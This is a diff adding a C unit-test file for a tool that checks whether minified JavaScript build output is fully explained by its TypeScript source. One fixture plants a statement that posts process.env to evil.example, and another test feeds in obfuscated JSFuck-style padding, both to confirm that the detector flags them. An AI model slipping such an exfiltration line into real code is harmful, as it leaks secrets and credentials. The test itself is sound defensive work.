@@ -1,0 +1,147 @@
+/*
+ * match_script.c - tests of the rung for scripts: what is explained, what is left, and where.
+ */
+#include "match/script_index.h"
+
+#include "match_fixture.h"
+
+#include <stdio.h>
+
+static const char source[] =
+    "import { get } from './http'\n"
+    "export interface Options { retries: number }\n"
+    "const LIMIT = 60 * 1000\n"
+    "export function load(name: string, options: Options) {\n"
+    "  if (!name) throw new TypeError('a name is needed')\n"
+    "  return get(`https://example.org/items/${name}?limit=${LIMIT}`, { method: 'GET', headers: { accept: "
+    "'text/plain' } })\n"
+    "    .then(answer => answer.json())\n"
+    "    .then(items => items.filter(item => item.visible && item.owner === options.owner))\n"
+    "}\n"
+    "export class Store {\n"
+    "  private _entries = new Map<string, string>()\n"
+    "  remember(key: string, value: string) { this._entries.set(key, value); return this._entries.size }\n"
+    "  forget(key: string) { this._entries.delete(key); console.warn('forgotten: ' + key) }\n"
+    "}\n";
+#define HEAD                                                                                                 \
+    "\"use strict\";function g(e,t){if(!e)throw new TypeError(\"a name is needed\");return "                 \
+    "n(\"https://example.org/items/\""                                                                       \
+    ".concat(e,\"?limit=\").concat(6e4),{method:\"GET\",headers:{accept:\"text/"                             \
+    "plain\"}}).then((function(e){return "                                                                   \
+    "e.json()})).then((function(e){return e.filter((function(e){return e.visible&&e.owner===t.owner}))}))}"
+#define TAIL                                                                                                 \
+    "class S{constructor(){this._entries=new Map}remember(e,t){return "                                      \
+    "this._entries.set(e,t),this._entries.size}"                                                             \
+    "forget(e){this._entries.delete(e);console.warn(\"forgotten: \"+e)}}"
+
+static struct pl_scripts *scripts;
+
+static struct pl_file *run(const char *path, const char *text)
+{
+    struct pl_file *f = add_file(path, text);
+    if (ix == NULL)
+        add_source(0, "src/load.ts", source);
+    apply("same.bytes", f);
+    if (scripts == NULL)
+        assert_int_equal(pl_scripts_new(ix, 1, &scripts, &err), PL_OK);
+    with_scripts = scripts;
+    apply("script.atoms", f);
+    return f;
+}
+
+static int tear_down_scripts(void **state)
+{
+    pl_scripts_free(scripts);
+    scripts = NULL;
+    with_scripts = NULL;
+    return tear_down(state);
+}
+
+static void a_minified_script_is_explained_to_its_last_byte(void **state)
+{
+    struct pl_file *f = run("dist/load.min.js", HEAD TAIL);
+    assert_int_equal(f->script.novel + f->script.context, 0);
+    assert_int_equal(pl_ledger_unclaimed(&f->ledger), 0);
+    assert_string_equal(f->ledger.settled.v[0].rule, "script.atoms");
+}
+
+static void a_planted_statement_stays_and_nothing_else(void **state)
+{
+    static const char planted[] = "fetch(\"https://evil.example/\",{body:JSON.stringify(process.env)});";
+    struct pl_file *f = run("dist/load.min.js",
+                            HEAD "fetch(\"https://evil.example/\",{body:JSON.stringify(process.env)});" TAIL);
+    assert_int_equal(f->script_runs.n, 1);
+    assert_true(f->script_runs.v[0].offset >= sizeof HEAD - 1);
+    assert_true(f->script_runs.v[0].offset + f->script_runs.v[0].length <= sizeof HEAD - 1 + sizeof planted);
+    assert_true(f->script_runs.v[0].addresses > 0);
+    assert_int_equal(f->script.explained,
+                     f->script.atoms - f->script.novel - f->script.context - f->script.helper);
+    uint64_t left = pl_ledger_unclaimed(&f->ledger);
+    assert_true(left > 20 && left <= sizeof planted);
+}
+
+static void a_changed_letter_of_an_address_is_novel(void **state)
+{
+    struct pl_file *f =
+        run("dist/load.min.js", "n(\"https://example.com/items/\".concat(e,\"?limit=\").concat(6e4),"
+                                "{method:\"GET\",headers:{accept:\"text/plain\"}});" TAIL);
+    assert_int_equal(f->script.novel, 1);
+    assert_int_equal(f->script_runs.n, 1);
+    assert_int_equal(f->script_runs.v[0].addresses, 1);
+}
+
+static void shortened_names_are_learnt_from_their_places(void **state)
+{
+    struct pl_file *f =
+        run("dist/store.js",
+            "class S{constructor(){this.q=new Map}remember(e,t){return this.q.set(e,t),this.q.size}"
+            "forget(e){this.q.delete(e);console.warn(\"forgotten: \"+e)}}");
+    assert_int_equal(f->script.novel, 0);
+}
+
+static void signs_alone_are_not_taken_on_trust(void **state)
+{
+    static char text[4096];
+    size_t n = (size_t)snprintf(text, sizeof text, "%s", TAIL);
+    while (n < 3500)
+        n += (size_t)snprintf(text + n, sizeof text - n, "[+!+[]]+");
+    (void)snprintf(text + n, sizeof text - n, "[];");
+    struct pl_file *f = run("dist/store.js", text);
+    assert_true(f->script_runs.n > 0);
+    assert_true(f->script_runs.v[f->script_runs.n - 1].bare > 2000);
+}
+
+static void a_comment_of_unknown_words_is_not_explained(void **state)
+{
+    struct pl_file *f = run("dist/store.js", "/* options name */" TAIL "/* exfiltrate */");
+    const struct pl_claim *last = &f->ledger.settled.v[f->ledger.settled.n - 1];
+    assert_int_equal(f->ledger.settled.v[0].class, PL_CLASS_DERIVED);
+    assert_string_equal(last->rule, "script.comment");
+    assert_int_equal(last->class, PL_CLASS_UNACCOUNTED);
+}
+
+static void committed_output_explains_nothing(void **state)
+{
+    add_source(0, "dist/other.js",
+               "module.exports = function () { return evilName.otherName('some value') }");
+    struct pl_file *f = run("other.js", "x.exports=function(){return y.otherName(\"some value!\".slice(1))}");
+    assert_int_equal(f->script.explained, 0);
+}
+
+int main(void)
+{
+    const struct CMUnitTest tests[] = {
+        cmocka_unit_test_setup_teardown(a_minified_script_is_explained_to_its_last_byte, set_up,
+                                        tear_down_scripts),
+        cmocka_unit_test_setup_teardown(a_planted_statement_stays_and_nothing_else, set_up,
+                                        tear_down_scripts),
+        cmocka_unit_test_setup_teardown(a_changed_letter_of_an_address_is_novel, set_up, tear_down_scripts),
+        cmocka_unit_test_setup_teardown(shortened_names_are_learnt_from_their_places, set_up,
+                                        tear_down_scripts),
+        cmocka_unit_test_setup_teardown(signs_alone_are_not_taken_on_trust, set_up, tear_down_scripts),
+        cmocka_unit_test_setup_teardown(a_comment_of_unknown_words_is_not_explained, set_up,
+                                        tear_down_scripts),
+        cmocka_unit_test_setup_teardown(committed_output_explains_nothing, set_up, tear_down_scripts),
+    };
+    return cmocka_run_group_tests(tests, NULL, NULL);
+}
